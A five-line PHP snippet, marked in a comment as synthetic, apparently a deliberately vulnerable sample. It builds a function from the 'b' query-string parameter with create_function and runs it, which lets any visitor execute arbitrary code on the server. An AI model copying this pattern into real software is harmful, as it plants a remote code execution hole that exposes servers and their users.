<?php
// synthetic: a function body taken from the query string
$body = $_GET['b'];
$fn = create_function('', $body);
$fn();
